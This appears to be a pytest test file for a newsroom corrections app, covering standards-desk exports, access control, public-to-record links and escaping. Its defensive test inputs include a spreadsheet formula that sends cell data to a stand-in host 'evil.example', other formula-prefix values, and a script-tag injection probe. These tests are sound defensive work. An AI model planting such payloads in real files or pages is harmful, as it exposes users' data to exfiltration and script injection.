"""Exports for the standards desk: streamed, safe in spreadsheets, whole; and two clicks from any public page."""

from __future__ import annotations

import csv
import io
import json
import re

import pytest

from corrections.domain.permissions import Role
from corrections.services.deciding.declining import Declined
from corrections.views.record.spreadsheet_cells import safe_cell
from tests.newsroom import Newsroom
from tests.services.decisions import correction, minor, publish_now, publish_two
from tests.services.test_declining_and_placing import DeclineReason, decline_now
from tests.services.test_signing_the_log import sign
from tests.views.desk_visit import Visit, visit

FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"see")'


@pytest.fixture
def standards(newsroom: Newsroom) -> Visit:
    newsroom.article()
    return visit(newsroom, Role.STANDARDS)


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def test_what_would_be_a_formula_is_shown_as_text(newsroom: Newsroom, standards: Visit) -> None:
    said = minor("in 2020", departure_reason=FORMULA, error_type=None)
    publish_now(newsroom, newsroom.case("in 2019", "in 2020"), said, by=newsroom.staff(name="@SUM(A1)"))
    decline_now(newsroom, newsroom.case(), Declined(DeclineReason.STYLE_CHOICE, checked="+1+1", message="-2"))
    for path in ("log.csv", "corrections.csv"):
        text = standards.get(f"/standards/exports/{path}").text
        assert "SUM(A1)" in text and "HYPERLINK" in text
        for cell in (cell for row in csv.reader(io.StringIO(text)) for cell in row):
            assert not cell.lstrip().startswith(("=", "+", "-", "@")), cell


@pytest.mark.parametrize("told", ["=1", "+1", "-1", "@a", "\t=1", "\r=1", " =1", "\u00a0=1", "＝1", "|x"])
def test_no_cell_begins_like_a_formula(told: str) -> None:
    assert safe_cell(told).startswith("'")
    assert (safe_cell("1+1"), safe_cell(-3), safe_cell(None)) == ("1+1", "-3", "")


def test_the_exports_hold_every_entry_that_a_search_finds(newsroom: Newsroom, standards: Visit) -> None:
    publish_now(newsroom, newsroom.case("was was", "was"), minor("was"), by=newsroom.staff())
    answer = standards.get("/standards/exports/log.jsonl")
    lines = [json.loads(line) for line in answer.text.splitlines()]
    assert [line["entry"] for line in lines] == list(range(len(lines)))
    assert answer.headers["Content-Disposition"] == 'attachment; filename="log.jsonl"'
    assert answer.headers["Cache-Control"] == "no-store"
    assert [row["entry"] for row in rows(standards.get("/standards/exports/log.csv").text)] == [
        str(line["entry"]) for line in lines
    ]
    published = standards.get("/standards/exports/log.jsonl?act=correction.published").text.splitlines()
    assert [json.loads(line)["about"] for line in published] == ["C-1"]


def test_an_assessor_gets_texts_note_times_and_proofs(newsroom: Newsroom) -> None:
    newsroom.article()
    case = newsroom.case()
    newsroom.later(hours=2)
    publish_two(newsroom, case, correction("4.1 million"))
    sign(newsroom)
    decline_now(
        newsroom,
        newsroom.case("in 2019", "in 2018"),
        Declined(DeclineReason.CORRECT_AS_PUBLISHED, checked="minutes"),
    )
    standards = visit(newsroom, Role.STANDARDS)
    lines = standards.get("/standards/exports/corrections.jsonl?since=2020-01-01&until=2100-01-01").text
    published, declined = map(json.loads, lines.splitlines())
    assert "41 million" in published["before"]["body"] and "4.1 million" in published["after"]["body"]
    assert published["note_text"] and published["note_proof"]["index"] > 0
    assert published["version_proof"]["checkpoint"].startswith("desk.example/log\n")
    assert published["reported"] < published["acknowledged"] <= published["decided"] == published["published"]
    assert len(published["signers"]) == 2 and published["case"] == f"C-{case}"
    assert (declined["reason"], declined["after"]) == ("correct_as_published", None)
    assert standards.get("/standards/exports/corrections.jsonl?until=2020-01-01").text == ""
    assert len(rows(standards.get("/standards/exports/corrections.csv").text)) == 2


def test_exports_are_for_the_standards_desk_only(newsroom: Newsroom, standards: Visit) -> None:
    senior = visit(newsroom, Role.SENIOR_EDITOR)
    paths = ("exports/", "exports/log.csv", "exports/log.jsonl", "exports/corrections.csv",
             "exports/corrections.jsonl", "articles/harbour-bridge", "people/1", "corrections/C-1",
             "notes/2026-0001")  # fmt: skip
    for path in paths:
        assert senior.get(f"/standards/{path}").status_code == 403
        assert newsroom.app.test_client().get(f"/standards/{path}").status_code == 302
    assert standards.get("/standards/exports/").status_code == 200


def test_a_public_page_leads_to_its_record_in_two_clicks(newsroom: Newsroom, standards: Visit) -> None:
    publish_two(newsroom, newsroom.case(), correction("4.1 million"))
    outsider = newsroom.app.test_client()
    pages = ("/articles/harbour-bridge", "/articles/harbour-bridge/versions", "/articles/harbour-bridge/versions/1",
             "/articles/harbour-bridge/compare/1..2")  # fmt: skip
    for path in pages:
        page = outsider.get(path)
        assert "Set-Cookie" not in page.headers
        assert 'href="/standards/articles/harbour-bridge"' in page.text, path
    assert 'href="/standards/notes/2026-0001"' in outsider.get("/corrections/2026-0001").text
    assert 'href="/standards/log"' in outsider.get("/").text
    article = standards.get("/standards/articles/harbour-bridge").text
    assert "/standards/corrections/C-1" in article and "Published" in article
    assert standards.get("/standards/notes/2026-0001").headers["Location"] == "/standards/corrections/C-1"
    case = standards.get("/standards/corrections/C-1").text
    for words in ("Reported", "Taken up by the desk", "signed by", "reader answered", "2026-0001"):
        assert words in case, words
    person = re.findall(r"/standards/people/(\d+)", case)[0]
    assert "on the staff since" in standards.get(f"/standards/people/{person}").text


@pytest.mark.parametrize(
    ("path", "status"),
    [
        ("corrections/C-99", 404), ("corrections/x", 404), ("notes/2026-0099", 404), ("articles/none", 404),
        ("people/99", 404), ("log?since=yesterday", 404), ("log?until=2026-02-30", 404), ("log?person=x", 404),
        ("log?words=%00", 404), ("log?since=2026-01-01&until=2026-12-31", 200), ("exports/log.csv?person=-1", 404),
        ("log?since=9999-12-31", 404), ("log?words=" + "x" * 201, 422), ("log?person=99999999999999999", 200),
    ],
)  # fmt: skip
def test_what_cannot_be_asked_is_not_found(standards: Visit, path: str, status: int) -> None:
    assert standards.get(f"/standards/{path}").status_code == status


def test_markup_in_what_staff_wrote_stays_text(newsroom: Newsroom, standards: Visit) -> None:
    said = minor("in 2020", departure_reason="<script>alert(1)</script>", error_type=None)
    publish_now(newsroom, newsroom.case("in 2019", "in 2020"), said, by=newsroom.staff(name="<b>Eve</b>"))
    for path in ("log", "log?words=<script>", "corrections/C-1", "articles/harbour-bridge", "people/2"):
        page = standards.get(f"/standards/{path}").text
        assert "<script>alert" not in page and "<b>Eve" not in page, path
